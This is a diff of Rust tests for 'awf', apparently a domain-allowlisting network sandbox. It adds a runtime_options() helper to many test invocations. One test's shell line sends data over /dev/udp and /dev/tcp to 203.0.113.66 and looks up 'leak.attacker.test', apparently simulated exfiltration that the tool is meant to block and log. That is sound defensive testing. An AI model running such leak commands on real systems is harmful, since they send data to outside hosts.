@@ -6,7 +6,7 @@ use std::process::Command;
 use std::time::Instant;
 
 use awf::exit::Exit;
-use awf_tests::awf;
+use awf_tests::{awf, runtime_options};
 
 use crate::world::{ALLOWED, Ended, World, finish};
 
@@ -36,7 +36,12 @@ fn check_without(taker: &[&str], exit: Exit, needle: &str) {
     let world = World::new();
     let began = Instant::now();
     let mut command = world.command(taker[0]);
-    command.args(&taker[1..]).arg(awf()).args(["--allow-domains", ALLOWED, "--", MARK]);
+    command.args(&taker[1..]).arg(awf()).args(runtime_options()).args([
+        "--allow-domains",
+        ALLOWED,
+        "--",
+        MARK,
+    ]);
     let run = finish(command.spawn().unwrap(), began);
     refused(&world, &run, exit, needle);
 }
@@ -118,7 +123,7 @@ fn neither_root_nor_sudo() {
     let mut command = world.command("sh");
     // The binary may lie where only root may go: it is handed over as an open file.
     command.args(["-c", &format!("exec 9<\"$0\"; {drop}")]).arg(awf()).arg("/proc/self/fd/9");
-    command.args(["--allow-domains", ALLOWED, "--", MARK]);
+    command.args(runtime_options()).args(["--allow-domains", ALLOWED, "--", MARK]);
     let run = finish(command.spawn().unwrap(), began);
     refused(&world, &run, Exit::NoPrivilege, "sudo");
 }
@@ -133,7 +138,7 @@ fn sudo_refuses() {
     let began = Instant::now();
     let mut command = world.command("sh");
     command.args(["-c", &format!("exec 9<\"$0\"; {drop}")]).arg(awf()).arg("/proc/self/fd/9");
-    command.args(["--allow-domains", ALLOWED, "--", MARK]);
+    command.args(runtime_options()).args(["--allow-domains", ALLOWED, "--", MARK]);
     let run = finish(command.spawn().unwrap(), began);
     refused(&world, &run, Exit::NoPrivilege, "a password is required");
 }
@@ -151,7 +156,7 @@ sys.exit(subprocess.call(sys.argv[1:]))' \"$@\"";
     let began = Instant::now();
     let mut command = world.command("unshare");
     command.args(["--net", "sh", "-c", taken, "sh"]).arg(awf());
-    command.args(["--allow-domains", ALLOWED, "--", MARK]);
+    command.args(runtime_options()).args(["--allow-domains", ALLOWED, "--", MARK]);
     let run = finish(command.spawn().unwrap(), began);
     refused(&world, &run, Exit::PortTaken, "ports");
 }
@@ -242,7 +247,11 @@ fn a_low_limit_of_open_files_is_raised_for_awf_and_stays_for_the_command() {
     let began = Instant::now();
     crate::report::injected("limit of open files", "awf");
     let mut command = world.command("prlimit");
-    command.arg("--nofile=64:4096").arg(awf()).args(["--allow-domains", ALLOWED, "--"]);
+    command.arg("--nofile=64:4096").arg(awf()).args(runtime_options()).args([
+        "--allow-domains",
+        ALLOWED,
+        "--",
+    ]);
     let many = "ulimit -Sn; ulimit -Hn; for i in $(seq 200); do sleep 3 >/dev/tcp/example.com/443 & done; wait; echo done";
     let run = finish(command.arg(many).spawn().unwrap(), began);
     assert_eq!((run.code, run.stdout.as_str()), (0, "64\n4096\ndone\n"), "{run:#?}");
@@ -266,7 +275,12 @@ fn in_a_time_namespace_nothing_times_out_and_the_record_is_whole_and_tells_the_t
         crate::report::injected("clock moved", "awf");
         let mut command = world.command("unshare");
         command.args(["--time", "--fork", "--monotonic", offset, "--boottime", offset]);
-        command.arg(awf()).args(["--allow-domains", ALLOWED, "--agent-timeout", "1"]);
+        command.arg(awf()).args(runtime_options()).args([
+            "--allow-domains",
+            ALLOWED,
+            "--agent-timeout",
+            "1",
+        ]);
         command.arg("--proxy-logs-dir").arg(&logs);
         let line = "echo x >/dev/udp/203.0.113.66/9999; getent ahosts leak.attacker.test >/dev/null; \
                     echo x >/dev/tcp/203.0.113.66/443; sleep 1; echo done";
